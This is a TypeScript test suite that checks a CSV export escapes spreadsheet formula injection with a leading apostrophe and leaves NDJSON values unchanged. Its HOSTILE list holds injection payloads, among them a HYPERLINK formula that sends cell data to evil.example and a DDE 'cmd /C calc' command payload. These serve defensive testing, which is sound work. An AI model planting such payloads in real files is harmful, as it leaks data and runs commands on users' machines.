// CSV formula injection (issue 14.4): a text cell that begins with `=`, `+`, `-`, `@`, a tab or
// a carriage return is written with a leading `'` (OWASP), so that a spreadsheet shows it as text
// instead of running it. Numbers are written as they are. Over HTTP on the store CANON_TEST_STORE
// names, and on the cell function itself.
import assert from "node:assert/strict";
import { after, describe, test } from "node:test";
import { csvValue } from "../../generated/runtime/exports.ts";
import { createOrder, createUser, expectStatus, startApp } from "../http/helpers.ts";
import { suiteFixture } from "../support/fixture.ts";
import { csvRows, download, exportsFolder, principals, settled } from "./helpers.ts";

type Obj = Record<string, any>;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")',
  "+1+2",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

describe("CSV cells a spreadsheet would run are neutralised", () => {
  test("a leading ' before =, +, -, @, tab and carriage return; quoting as RFC 4180 asks; numbers as they are", () => {
    assert.equal(csvValue('=HYPERLINK("http://evil.example","x")'), `"'=HYPERLINK(""http://evil.example"",""x"")"`);
    assert.equal(csvValue("=1+1"), "'=1+1");
    assert.equal(csvValue("+1"), "'+1");
    assert.equal(csvValue("-1"), "'-1");
    assert.equal(csvValue("@A1"), "'@A1");
    assert.equal(csvValue("\t=1"), "'\t=1");
    assert.equal(csvValue("\r=1"), "\"'\r=1\"");
    assert.equal(csvValue(-5), "-5");
    assert.equal(csvValue(-0.5), "-0.5");
    assert.equal(csvValue("-5.00", true), "-5.00", "a decimal field's text is a number, never a formula");
    for (const safe of ["plain", "a=b", "1-2", "x@example.com", "'quoted"]) assert.equal(csvValue(safe), safe);
    assert.equal(csvValue(["=1"]), '"[""=1""]"', "arrays and objects are JSON, which starts with [ or {");
  });

  describe(`an export of orders whose notes hold formulas (${process.env.CANON_TEST_STORE ?? "memory"} store)`, () => {
    const folder = exportsFolder();
    const api = suiteFixture(() => startApp({ authenticate: principals, exports: { directory: folder.directory } }));
    after(() => folder.remove());

    test("every such note is written with a leading '; the NDJSON file keeps the value as it is", async () => {
      const user = await createUser(api);
      const orders: Obj[] = [];
      for (const note of HOSTILE) orders.push(await createOrder(api, user.id, "v2", { note }));
      const csvJob = (await expectStatus(api, "POST", "/v2/exports", 201, { body: { resource: "orders", format: "csv" }, auth: "alice" })).body as Obj;
      const csvDone = await settled(api, "v2", csvJob.id, "alice");
      const [header, ...rows] = csvRows((await download(api, csvDone.download_url, "alice")).text);
      const note = header!.indexOf("note");
      assert.deepEqual(
        rows.map((r) => r[note]),
        HOSTILE.map((n) => `'${n}`),
      );
      for (const row of rows) assert.ok(!/^[=+\-@\t\r]/.test(row[note]!), row[note]);

      const ndjsonJob = (await expectStatus(api, "POST", "/v2/exports", 201, { body: { resource: "orders" }, auth: "alice" })).body as Obj;
      const ndjsonDone = await settled(api, "v2", ndjsonJob.id, "alice");
      const lines = (await download(api, ndjsonDone.download_url, "alice")).text.trim().split("\n");
      assert.deepEqual(lines.map((l) => JSON.parse(l).note), HOSTILE, "NDJSON is data, not a spreadsheet: unchanged");
      assert.deepEqual(orders.map((o) => o.note), HOSTILE);
    });
  });
});
